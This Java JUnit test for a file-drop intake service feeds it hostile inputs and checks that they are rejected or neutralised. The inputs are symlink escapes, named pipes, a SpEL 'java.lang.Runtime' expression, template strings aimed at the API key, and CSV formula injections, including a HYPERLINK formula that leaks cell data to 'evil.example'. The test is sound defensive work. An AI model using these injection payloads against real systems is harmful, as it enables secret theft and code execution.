package io.facedrop.hostile;

import static java.nio.file.LinkOption.NOFOLLOW_LINKS;
import static java.nio.file.attribute.PosixFilePermissions.fromString;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import io.facedrop.files.Tree;
import io.facedrop.integration.Integration;
import io.facedrop.ledger.Ledger;
import io.facedrop.ledger.model.Batch;
import io.facedrop.sandbox.Arrival;
import io.facedrop.sandbox.Sandbox;
import io.facedrop.sandbox.SandboxOptions;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.awaitility.core.ConditionTimeoutException;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** The hostile manifests and names of {@code fates.csv}, all dropped into one inbox at once. */
class HostileDropsTest {
  private static final Map<String, String> SMALL_BOUNDS =
      Map.of(
          "facedrop.faces.await", "false",
          "facedrop.manifest.max-record", "5000",
          "facedrop.manifest.max-columns", "20",
          "facedrop.manifest.max-rows", "500",
          "facedrop.manifest.max-bytes", "200000",
          "facedrop.image.max-url", "2048",
          "facedrop.image.deny-hosts", "denied.example,*.denied.example,203.0.113.9",
          "facedrop.image.private-addresses", "refuse",
          "facedrop.csv.formulas", "neutralise");

  @TempDir static Path outside;
  private static HostileHouse house;
  private static Sandbox sandbox;
  private static Ledger ledger;
  private static List<Batch> batches;
  private static Map<String, JsonNode> reasons;

  @BeforeAll
  static void dropEverything() throws Exception {
    house = HostileHouse.in(outside);
    sandbox = Sandbox.start(SandboxOptions.defaults().withRecord(true));
    var settings = house.settings(sandbox.baseUri(), SMALL_BOUNDS);
    ledger = Ledger.open(settings.ledgerUrl(), Clock.systemUTC());
    ledger.work().workOn(null);
    try (Integration integration = Integration.serve(settings, ledger)) {
      for (Fate fate : manifests()) {
        dropManifest(integration, fate);
      }
      for (Fate fate : names()) {
        dropName(fate);
      }
      await()
          .atMost(Duration.ofMinutes(2))
          .pollInterval(Duration.ofMillis(200))
          .until(HostileDropsTest::everythingIsThrough);
    } catch (ConditionTimeoutException late) {
      // Each fate is looked at by itself.
    }
    batches = ledger.newestBatches(1000);
    reasons = house.reasons();
  }

  @AfterAll
  static void close() {
    ledger.close();
    sandbox.close();
  }

  static List<Fate> manifests() {
    return Fate.of("manifest");
  }

  static List<Fate> names() {
    return Fate.of("name");
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("manifests")
  void manifestMeetsItsFate(Fate fate) throws Exception {
    assertThat(met(fate)).isEqualTo(fate.fate());
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("names")
  void nameMeetsItsFate(Fate fate) throws Exception {
    assertThat(met(fate)).isEqualTo(fate.fate());
  }

  @Test
  void nothingIsLostLeftOrOutside() throws Exception {
    house.addsUp(ledger);
    house.nothingIsOutside();
    house.keyIsNowhere();
    try (Stream<Path> work = Files.walk(house.home().resolve("inbox/.work"))) {
      assertThat(work.skip(1)).isEmpty();
    }
    assertThat(outside.resolve("elsewhere/secret.csv")).exists();
  }

  @Test
  void onlyRowsThatMayBeSentAreSent() {
    assertThat(sandbox.posts()).isEqualTo(batches.stream().mapToLong(Batch::requests).sum());
    assertThat(sandbox.journal())
        .extracting(Arrival::imageUrl)
        .allMatch(url -> url.matches("(?is)https://(a\\.example|denied\\.example\\.com|not).*"))
        .contains("https://a.example/${env:HOME}/{{facedrop.api.key}}.png");
  }

  @Test
  void cellsComeOutAsTheyAreOrNeutralised() throws Exception {
    assertThat(output("expressions.csv", "success"))
        .contains("${env:PATH},{{facedrop.api.key}}", "${body},{{facedrop.api.key}}");
    assertThat(output("expressions.csv", "dead-letter"))
        .contains(
            "/${env:HOME}/{{facedrop.api.key}}.png,${bean:intake},\"#{T(java.lang.Runtime)}\",");
    assertThat(output("formulas.csv", "success"))
        .contains("'=cmd(),image_url,'@tag", ",'-12.50,", "'+491234,", "\"'=1\n'+2\"")
        .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
  }

  private static String output(String manifest, String kind) throws IOException {
    Batch batch =
        batches.stream().filter(it -> it.manifest().equals(manifest)).findFirst().orElseThrow();
    return Files.readString(house.parts(batch, kind).get(0));
  }

  private static void dropManifest(Integration integration, Fate fate) throws IOException {
    byte[] content = fate.content();
    if (content.length == 0) {
      // The inbox has half a minute's patience with an empty file.
      Path file = Files.createDirectories(outside.resolve("elsewhere")).resolve(fate.name());
      integration.accept(Files.write(file, content));
    } else {
      put(fate, fate.name(), content);
    }
  }

  private static void dropName(Fate fate) throws IOException {
    String url = "https://a.example/name-" + fate.number() + ".png\n";
    byte[] content = (fate.name().endsWith(".txt") ? url : "image_url\n" + url).getBytes();
    Path folder = Files.createDirectories(house.home().resolve("inbox").resolve(fate.folder()));
    Path file = folder.resolve(fate.name());
    Path elsewhere = Files.createDirectories(outside.resolve("elsewhere"));
    switch (fate.how()) {
      case "link" ->
          Files.createSymbolicLink(file, Files.write(elsewhere.resolve("secret.csv"), content));
      case "folder-link" -> Files.createSymbolicLink(file, elsewhere);
      case "dangling" -> Files.createSymbolicLink(file, elsewhere.resolve("nothing"));
      case "loop" -> Files.createSymbolicLink(file, house.home().resolve("inbox"));
      case "pipe" -> pipe(file);
      case "folder" -> put(fate, fate.name() + "/" + fate.name(), content);
      case "read-only" ->
          Files.setPosixFilePermissions(put(fate, fate.name(), content), fromString("r--r--r--"));
      default -> put(fate, fate.name(), content);
    }
  }

  private static void pipe(Path file) throws IOException {
    try {
      assertThat(new ProcessBuilder("mkfifo", file.toString()).start().waitFor()).isZero();
    } catch (InterruptedException e) {
      throw new IllegalStateException(e);
    }
  }

  private static Path put(Fate fate, String name, byte[] content) throws IOException {
    Path file = house.home().resolve("inbox").resolve(fate.folder() + name);
    Files.createDirectories(file.getParent());
    return Files.write(file, content);
  }

  /** Whether there are as many fates as there should be; which they are is told one by one. */
  private static boolean everythingIsThrough() throws IOException {
    long expected =
        Stream.concat(manifests().stream(), names().stream())
            .filter(fate -> !fate.fate().equals("ignored"))
            .count();
    long complete = ledger.newestBatches(1000).stream().filter(Batch::complete).count();
    return complete + house.reasons().size() >= expected
        && Tree.files(house.home().resolve("inbox/.work")).isEmpty();
  }

  /** What has become of it so far. */
  private static String met(Fate fate) throws IOException {
    List<Batch> own =
        batches.stream().filter(batch -> batch.folder().startsWith(fate.folder())).toList();
    if (!own.isEmpty()) {
      return own.stream().map(HostileDropsTest::accepted).collect(Collectors.joining(" and "));
    }
    JsonNode reason = reasons.getOrDefault(fate.folder() + fate.name(), reasons.get(fate.name()));
    if (reason != null) {
      return "rejected " + reason.path("code").asText() + " " + reason.path("line").asLong(0);
    }
    Path file = house.home().resolve("inbox").resolve(fate.folder() + fate.name());
    return Files.exists(file, NOFOLLOW_LINKS) ? "ignored" : "open";
  }

  private static String accepted(Batch batch) {
    return batch.complete()
        ? "accepted rows=%d success=%d INVALID_URL=%d"
            .formatted(batch.rows(), batch.succeeded(), batch.invalid())
        : "open";
  }
}
